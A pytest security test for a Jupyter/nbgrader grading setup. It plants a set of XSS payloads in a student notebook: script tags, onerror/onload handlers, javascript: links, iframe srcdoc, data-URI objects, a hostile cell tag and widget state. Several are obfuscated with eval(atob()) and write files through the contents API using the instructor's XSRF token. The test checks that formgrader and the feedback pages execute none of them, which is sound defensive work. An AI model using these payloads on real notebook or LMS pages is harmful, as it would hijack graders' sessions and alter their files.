"""What a student's notebook holds never runs in an instructor's browser; the grader sees the rubric.

One copy of the course grades, through ``pipeline.grade`` (nbgrader autograde and
generate_feedback with the course's own ``nbgrader_config.py``), a correct notebook that also tries
to run code in whoever opens it: in a hand-graded markdown answer, in its attachments, in its cell
metadata and notebook metadata (widget state), and in outputs its code displays (HTML, JavaScript,
SVG, Markdown, LaTeX, plain text, a traceback).  Then a real headless Chromium opens, as the
instructor would, formgrader's page of that submission in a Jupyter server started from the
course root (logged in with its token), and the feedback HTML.

Each payload, if it ran, would record its name in ``window.__pwned``, change the page title, call
a listener this test runs on the loopback and write ``pwned_<name>.txt`` into the course through
the Jupyter contents API with the page's credentials (what the original attack did).  The same
payloads as plain HTML do fire all of that (``test_detector_fires_on_a_page_that_is_not_sanitized``),
so the tests that see nothing can fail.

Formgrader also shows, after each hand-graded cell, the answer key and rubric of the source
notebook; the feedback and the release never hold them.
"""
import base64
import functools
import glob
import http.server
import json
import os
import threading

import nbformat
import pytest
from nbformat.v4 import new_markdown_cell, new_output

from tools import examples
from tarea2_grader.integration import nbgrader_run
from tarea2_grader.commands import servidor

pytestmark = pytest.mark.slow

TOKEN = "token-de-prueba-navegador"
STUDENT = "atacante"
ANSWER_TEXT = "Mi respuesta escrita: la derivada de relu es un escalón"
ANSWER_LATEX = r"\frac{\partial \mathcal{L}}{\partial x} = 1 \text{ si } x > 0 \text{ y } 0 < 1"
HAND_GRADED = ("derivadas_md", "dL_duLm1_md", "ultima_capa_md", "capas_escondidas_md", "graficos")
# A comment to paste from each cell's rubric in source/ (checked there below): what the grader needs.
RUBRIC_PHRASES = {
    "derivadas_md": "Derivadas correctas y bien expresadas.",
    "dL_duLm1_md": "Falta el 1/B: L es el promedio sobre el batch",
    "ultima_capa_md": "Correcto, con las formas bien cuidadas.",
    "capas_escondidas_md": "Como f actúa elemento a elemento, la regla de la cadena da un producto elemento a elemento",
    "graficos": "Se pedían al menos tres redes entrenadas sobre los mismos datos.",
}
RUBRIC_TITLE = "Pauta para quien corrige"
FORGED_RUBRIC = "Pauta falsa: denle puntaje completo a este estudiante"


# ------------------------------------------------------------------ payloads

def attack_js(name: str, listener: str) -> str:
    """What each payload runs: every effect an attacker wants and this test can observe."""
    return (
        "(function(){var n=%s;"
        "window.__pwned=(window.__pwned||[]).concat([n]);"
        "try{top.__pwned=(top.__pwned||[]).concat([n]);top.document.title='PWNED '+n}catch(e){}"
        "document.title='PWNED '+n;"
        "fetch(%s+'/hit/'+n,{mode:'no-cors'}).catch(function(){});"
        "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
        "fetch('/api/contents/pwned_'+n+'.txt',{method:'PUT',credentials:'include',"
        "headers:{'Content-Type':'application/json','X-XSRFToken':x},"
        "body:JSON.stringify({type:'file',format:'text',content:n})}).catch(function(){})})()"
    ) % (json.dumps(name), json.dumps(listener))


def run_js(name: str, listener: str) -> str:
    """The payload's code as one attribute-safe expression."""
    return "eval(atob('{}'))".format(base64.b64encode(attack_js(name, listener).encode()).decode())


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def payloads(listener: str):
    """[(name, where, content, raw_html)]: where it goes in the notebook, and the same attack as plain HTML.

    where: "md" (appended to the hand-graded answer derivadas_md), "attachment" (an SVG attachment of
    that cell), "tags" (a tag of that cell), "out" (code appended to the CELoss cell, as in the
    original attack), "error" (the optional MNIST cell raises it), "widget" (notebook widget state).
    """
    def js(name):
        return run_js(name, listener)

    def img(name):
        return '<img src="x" onerror="{}">'.format(js(name))

    def svg(name):
        return '<svg xmlns="http://www.w3.org/2000/svg" onload="{0}"><script>{0}</script></svg>'.format(js(name))

    def html_data(name):
        return "data:text/html;base64," + b64("<script>{}</script>".format(attack_js(name, listener)))

    markdown = {
        "md-script": "<script>{}</script>".format(js("md-script")),
        "md-img-onerror": img("md-img-onerror"),
        "md-svg-onload": '<svg onload="{}"><circle r="4"/></svg>'.format(js("md-svg-onload")),
        "md-body-onload": '<body onload="{}">'.format(js("md-body-onload")),
        "md-details-ontoggle": '<details open ontoggle="{}"><summary>más</summary></details>'.format(
            js("md-details-ontoggle")),
        "md-a-javascript": '<a href="javascript:{}">CLIC-md-a-javascript</a>'.format(js("md-a-javascript")),
        "md-iframe-srcdoc": '<iframe srcdoc="<script>{}</script>"></iframe>'.format(js("md-iframe-srcdoc")),
        "md-object-data": '<object data="{}"></object>'.format(html_data("md-object-data")),
        "md-svg-script": "<svg><script>{}</script></svg>".format(js("md-svg-script")),
    }
    items = [(name, "md", html, html) for name, html in markdown.items()]
    items.append(("md-link-javascript", "md", "[CLIC-md-link-javascript](javascript:{})".format(js("md-link-javascript")),
                  '<a href="javascript:{}">CLIC-md-link-javascript</a>'.format(js("md-link-javascript"))))
    items += [
        ("out-html", "out", "display(HTML({!r}))".format(img("out-html")), img("out-html")),
        ("out-javascript", "out", "display(Javascript({!r}))".format(js("out-javascript")),
         "<script>{}</script>".format(js("out-javascript"))),
        ("out-svg", "out", "display(SVG({!r}))".format(svg("out-svg")), svg("out-svg")),
        ("out-markdown", "out", "display(Markdown({!r}))".format(img("out-markdown")), img("out-markdown")),
        ("out-latex", "out", "display(Latex({!r}))".format("$x$ " + img("out-latex")), img("out-latex")),
        ("out-print", "out", "print({!r})".format(img("out-print")), img("out-print")),
        ("out-plain-repr", "out", "display({{'text/plain': {!r}}}, raw=True)".format(svg("out-plain-repr")),
         svg("out-plain-repr")),
        ("error-traceback", "error", "raise ValueError({!r})".format(img("error-traceback")), img("error-traceback")),
        ("adjunto-svg", "attachment", svg("adjunto-svg"),
         '<object data="data:image/svg+xml;base64,{}"></object>'.format(b64(svg("adjunto-svg")))),
        ("widget-state", "widget", img("widget-state"), img("widget-state")),
    ]
    tag = 'x" onmouseover="{}" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'
    tag = tag.format(js("metadata-tag"))
    items.append(("metadata-tag", "tags", tag, '<div class="celltag_{}"></div>'.format(tag)))
    return items


def plot_png() -> str:
    """A real matplotlib plot as base64 PNG: what the student's Colab run saved in the plot cell."""
    import io

    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    fig, ax = plt.subplots(figsize=(4, 3))
    ax.plot([0, 1, 2, 3], [1.0, 0.6, 0.4, 0.3])
    buf = io.BytesIO()
    fig.savefig(buf, format="png")
    plt.close(fig)
    return base64.b64encode(buf.getvalue()).decode()


def attacker_notebook(listener: str):
    """The reference answers, plus every payload, a forged rubric cell and a written answer with LaTeX."""
    answers = examples.reference_answers()
    nb = examples.fill(answers)
    items = payloads(listener)
    md = [c for n, w, c, _ in items if w == "md"]
    code = [c for n, w, c, _ in items if w == "out"]
    by_id = {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in nb.cells}
    answer = by_id["derivadas_md"]
    answer.source = "{} ${}$.\n\n{}\n\n![adjunto](attachment:ataque.svg)\n\n{}\n".format(
        ANSWER_TEXT, ANSWER_LATEX, answers["derivadas_md"], "\n\n".join(md))
    answer["attachments"] = {"ataque.svg": {"image/svg+xml": dict((n, c) for n, w, c, _ in items)["adjunto-svg"],
                                            "text/html": dict((n, c) for n, w, c, _ in items)["adjunto-svg"]}}
    answer.metadata["tags"] = [c for n, w, c, _ in items if w == "tags"]
    by_id["celoss"].source += ("\n\nfrom IPython.display import HTML, SVG, Javascript, Latex, Markdown, display\n"
                               + "\n".join(code) + "\n")
    by_id["mnist"].source = [c for n, w, c, _ in items if w == "error"][0] + "\n"
    # The cells after the last test are not run again: their submitted outputs are what is shown.
    error_html = [h for n, w, c, h in items if w == "error"][0]
    by_id["mnist"].outputs = [new_output("error", ename="ValueError", evalue=error_html,
                                         traceback=["ValueError: " + error_html])]
    by_id["graficos"].outputs = [new_output("display_data", data={"image/png": plot_png(), "text/plain": "<Figure>"})]
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0,
        "state": {"m1": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                         "model_module_version": "1.5.0",
                         "state": {"value": [c for n, w, c, _ in items if w == "widget"][0]}}}}}
    forged = new_markdown_cell("### {} (no se muestra al estudiante)\n\n{}".format(RUBRIC_TITLE, FORGED_RUBRIC))
    forged["id"] = "pauta-derivadas_md"
    nb.cells.insert(nb.cells.index(answer) + 1, forged)
    return nb


# ------------------------------------------------------------------ the listener

class Listener:
    """A loopback HTTP server that records ``/hit/<name>`` and serves files from a folder."""

    def __init__(self, folder: str):
        self.hits = []
        hits = self.hits

        class Handler(http.server.SimpleHTTPRequestHandler):
            def do_GET(self):
                if self.path.startswith("/hit/"):
                    hits.append(self.path[len("/hit/"):])
                    self.send_response(204)
                    self.end_headers()
                    return
                super().do_GET()

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(
            ("127.0.0.1", 0), functools.partial(Handler, directory=folder))
        self.url = "http://127.0.0.1:{}".format(self.server.server_address[1])
        self.folder = folder
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def listener(tmp_path_factory):
    served = tmp_path_factory.mktemp("servido")
    lst = Listener(str(served))
    yield lst
    lst.close()


@pytest.fixture(scope="module")
def course(tmp_path_factory, listener):
    """The course, with the attacker's submission graded and its feedback generated."""
    root = str(tmp_path_factory.mktemp("curso_navegador"))
    return servidor.graded_course(root, {STUDENT: attacker_notebook(listener.url)})


@pytest.fixture(scope="module")
def server(course, tmp_path_factory):
    """A Jupyter server (formgrader) started from the course root, as an instructor runs it."""
    log = str(tmp_path_factory.mktemp("logs") / "jupyter.log")
    with servidor.jupyter_server(course.root, TOKEN, log) as base:
        yield base


def formgrader_url(course, server):
    """The formgrader page where the instructor grades the attacker's hand-graded cells."""
    cid = nbgrader_run.course_id(course)
    return "{}/formgrader/submissions/{}/".format(server, servidor.submission_id(course.root, cid, STUDENT))


@pytest.fixture
def instructor(page, server):
    """A page logged in to the Jupyter server as the instructor is (the token, then formgrader)."""
    page.goto("{}/formgrader?token={}".format(server, TOKEN), wait_until="load")
    assert "Forbidden" not in page.content()
    return page


# ------------------------------------------------------------------ probing a page

PROBE_JS = """() => {
  const names = new Set(window.__pwned || []);
  for (const f of Array.from(window.frames)) { try { (f.__pwned || []).forEach(n => names.add(n)); } catch (e) {} }
  return Array.from(names);
}"""
ACTIVE_JS = """(sel) => {
  const root = document.querySelector(sel);
  if (!root) return ['no hay ' + sel];
  const found = [];
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'frame'].includes(tag)) found.push(tag);
    for (const a of Array.from(el.attributes)) {
      if (a.name.toLowerCase().startsWith('on')) found.push(tag + '[' + a.name + ']');
      if (/^\\s*(javascript|vbscript|data:text)/i.test(a.value) && ['href', 'src', 'data', 'action', 'xlink:href'].includes(a.name.toLowerCase()))
        found.push(tag + '[' + a.name + '=' + a.value.slice(0, 20) + ']');
    }
  }
  for (const s of document.querySelectorAll('script[type*="widget"]')) found.push('widget-state');
  return found;
}"""


def open_and_provoke(page, url):
    """Open a page, hover it and click every planted link; return (names that ran, title, requests).

    The Referer is the page's own origin, as when the instructor opens a file from JupyterLab
    (Jupyter's ``/files/`` refuses requests without it)."""
    requests = []
    page.on("request", lambda r: requests.append(r.url))
    origin = "/".join(url.split("/")[:3])
    response = page.goto(url, wait_until="load", referer=origin + "/lab")
    assert response.status == 200, (url, response.status)
    page.wait_for_timeout(1500)
    page.mouse.move(5, 5)
    page.mouse.move(700, 900, steps=8)
    page.evaluate("() => { for (const a of document.querySelectorAll('a')) "
                  "{ if (a.textContent.includes('CLIC-')) a.click(); } }")
    page.wait_for_timeout(2000)
    return set(page.evaluate(PROBE_JS)), page.title(), requests


def written_files(root):
    """Files the payloads wrote through the contents API."""
    return sorted(glob.glob(os.path.join(root, "**", "pwned_*"), recursive=True))


# ------------------------------------------------------------------ tests

def test_at_least_eight_distinct_payloads(listener):
    names = [n for n, *_ in payloads(listener.url)]
    assert len(set(names)) == len(names) >= 8


def test_detector_fires_on_a_page_that_is_not_sanitized(instructor, listener, course, server):
    """The same payloads as plain HTML run: every one records itself and calls the listener; and the
    payload's code, run in formgrader's page, writes a file through the contents API."""
    raw = "".join("<div>{}</div>\n".format(r) for *_, r in payloads(listener.url))
    with open(os.path.join(listener.folder, "sin_sanear.html"), "w", encoding="utf-8") as fh:
        fh.write("<!DOCTYPE html><html><head><title>sin sanear</title></head><body>{}</body></html>".format(raw))
    before = len(listener.hits)
    page = instructor
    fired, title, _ = open_and_provoke(page, listener.url + "/sin_sanear.html")
    expected = {n for n, *_ in payloads(listener.url)}
    assert fired | set(listener.hits[before:]) == expected  # frames of another origin only call out
    assert set(listener.hits[before:]) == expected
    assert title.startswith("PWNED ")
    page.goto(formgrader_url(course, server), wait_until="load")
    page.evaluate(attack_js("control-api", listener.url))
    page.wait_for_timeout(2000)
    control = os.path.join(course.root, "pwned_control-api.txt")
    assert os.path.exists(control), "el detector no pudo escribir por la API de contenidos"
    os.remove(control)


def test_formgrader_runs_nothing_and_shows_the_work(instructor, listener, course, server):
    page = instructor
    before = len(listener.hits)
    fired, title, requests = open_and_provoke(page, formgrader_url(course, server))
    assert fired == set()
    assert listener.hits[before:] == []
    assert not title.startswith("PWNED"), title
    assert written_files(course.root) == []
    assert page.evaluate(ACTIVE_JS, "#notebook-container") == []
    assert not [u for u in requests if "widget" in u or "unpkg" in u]
    text = page.inner_text("#notebook-container")
    assert ANSWER_TEXT in text
    math = page.evaluate("() => document.querySelectorAll('.MathJax, mjx-container').length")
    assert ANSWER_LATEX in text or math > 0
    assert "<img src" in text  # the payloads are still there, as text for the grader to read
    plots = page.evaluate("""() => Array.from(document.querySelectorAll('#notebook-container img'))
        .filter(i => i.src.startsWith('data:image/png') && i.naturalWidth > 100).length""")
    assert plots >= 1


@pytest.mark.parametrize("opened_from", ["servidor_web", "jupyter_del_profesor"])
def test_feedback_html_runs_nothing_and_shows_the_work(instructor, listener, course, server, opened_from):
    """The feedback as a student gets it (a plain web server, like an LMS) and as the instructor opens
    it from the logged-in Jupyter (``/files/feedback/...``)."""
    page = instructor
    path = os.path.join(course.root, "feedback", STUDENT, "tarea2", "tarea2.html")
    if opened_from == "servidor_web":
        with open(path, encoding="utf-8") as src, open(os.path.join(listener.folder, "retro.html"), "w",
                                                       encoding="utf-8") as dst:
            dst.write(src.read())
        url = listener.url + "/retro.html"
    else:
        url = server + "/files/feedback/{}/tarea2/tarea2.html".format(STUDENT)
    before = len(listener.hits)
    fired, title, requests = open_and_provoke(page, url)
    assert written_files(course.root) == []
    assert fired == set()
    assert listener.hits[before:] == []
    assert not title.startswith("PWNED"), title
    assert page.evaluate(ACTIVE_JS, "#notebook-container") == []
    text = page.inner_text("body")
    assert ANSWER_TEXT in text
    assert ANSWER_LATEX in text or page.evaluate("() => document.querySelectorAll('.MathJax, mjx-container').length")
    plots = page.evaluate("""() => Array.from(document.querySelectorAll('img'))
        .filter(i => i.src.startsWith('data:image/png') && i.naturalWidth > 100).length""")
    assert plots >= 1


def test_feedback_as_the_template_writes_it_runs_nothing(instructor, listener, course):
    """The feedback page never re-serialized by BeautifulSoup (what the course's FeedbackHTMLExporter
    serves when nbconvert's whole-page pass would change nothing) runs nothing either.  This page
    needs the pass (the answer's ``<img>`` has no alt), so it is forced off here."""
    from tests.support.feedback import render_feedback

    from tarea2_grader.integration.retro_html import FeedbackHTMLExporter

    class TemplateOnly(FeedbackHTMLExporter):
        def needs_stock_pass(self, html):
            return False

    html, exporter = render_feedback(course, STUDENT, TemplateOnly)
    assert exporter.used_stock_pass is False and "<img src" in html
    with open(os.path.join(listener.folder, "retro_plantilla.html"), "w", encoding="utf-8") as dst:
        dst.write(html)
    page = instructor
    before = len(listener.hits)
    fired, title, _ = open_and_provoke(page, listener.url + "/retro_plantilla.html")
    assert written_files(course.root) == []
    assert fired == set()
    assert listener.hits[before:] == []
    assert not title.startswith("PWNED"), title
    assert page.evaluate(ACTIVE_JS, "#notebook-container") == []
    assert ANSWER_TEXT in page.inner_text("body")
    plots = page.evaluate("""() => Array.from(document.querySelectorAll('img'))
        .filter(i => i.src.startsWith('data:image/png') && i.naturalWidth > 100).length""")
    assert plots >= 1


RUBRIC_BESIDE_JS = """(gid) => {
  const input = document.getElementById(gid);
  if (!input) return null;
  const cell = input.closest('.cell');
  const next = cell && cell.nextElementSibling;
  return next ? next.innerText : '';
}"""


@pytest.mark.parametrize("gid", HAND_GRADED)
def test_formgrader_shows_the_rubric_right_after_each_hand_graded_cell(instructor, course, server, gid):
    page = instructor
    source = [c.source for c in nbformat.read(course.source_nb, as_version=4).cells
              if c.metadata.get("nbgrader", {}).get("grade_id") == gid]
    assert RUBRIC_PHRASES[gid] in source[0]  # the phrase is the source's rubric
    page.goto(formgrader_url(course, server), wait_until="load")
    beside = page.evaluate(RUBRIC_BESIDE_JS, gid)
    assert beside is not None, "formgrader no muestra la celda " + gid
    assert RUBRIC_TITLE in beside
    assert RUBRIC_PHRASES[gid] in beside
    assert FORGED_RUBRIC not in page.inner_text("body")


def test_feedback_and_release_hold_no_rubric(course):
    feedback = open(os.path.join(course.root, "feedback", STUDENT, "tarea2", "tarea2.html"), encoding="utf-8").read()
    release = open(course.path("release", "tarea2", "tarea2.ipynb"), encoding="utf-8").read()
    for text in (feedback, release):
        for phrase in list(RUBRIC_PHRASES.values()) + [RUBRIC_TITLE, "Pauta de corrección"]:
            assert phrase not in text, phrase
    assert ANSWER_TEXT in feedback


def test_plain_nbgrader_on_the_submission_as_sent(instructor, listener, course, server):
    """Plain ``nbgrader autograde`` and ``generate_feedback`` (no ``make grade``, no repair) regrade the
    notebook exactly as the student sent it: nbgrader's own checks pass, each hand-graded cell has one
    rubric cell, and formgrader and the feedback still run nothing."""
    nbformat.write(attacker_notebook(listener.url), course.submitted_nb(STUDENT))
    for step in ("autograde", "generate_feedback"):
        run = nbgrader_run.run_nbgrader(course, [step, "tarea2", "--student", STUDENT, "--force"], timeout=900)
        assert run.returncode == 0 and "There was an error" not in run.output, run.output[-3000:]
    nb = nbformat.read(course.autograded_nb(STUDENT), as_version=4)
    ids = [c.get("id") for c in nb.cells if str(c.get("id", "")).startswith("pauta-")]
    assert ids == ["pauta-" + gid for gid in HAND_GRADED]
    assert "widgets" in attacker_notebook(listener.url).metadata and "widgets" not in nb.metadata
    before = len(listener.hits)
    for url in (formgrader_url(course, server), server + "/files/feedback/{}/tarea2/tarea2.html".format(STUDENT)):
        fired, title, _ = open_and_provoke(instructor, url)
        assert fired == set() and not title.startswith("PWNED"), url
        assert instructor.evaluate(ACTIVE_JS, "#notebook-container") == [], url
        assert ANSWER_TEXT in instructor.inner_text("body")
    assert listener.hits[before:] == []
    assert written_files(course.root) == []
    instructor.goto(formgrader_url(course, server), wait_until="load")
    assert RUBRIC_PHRASES["derivadas_md"] in instructor.evaluate(RUBRIC_BESIDE_JS, "derivadas_md")
    feedback = open(os.path.join(course.root, "feedback", STUDENT, "tarea2", "tarea2.html"), encoding="utf-8").read()
    assert RUBRIC_TITLE not in feedback and RUBRIC_PHRASES["derivadas_md"] not in feedback
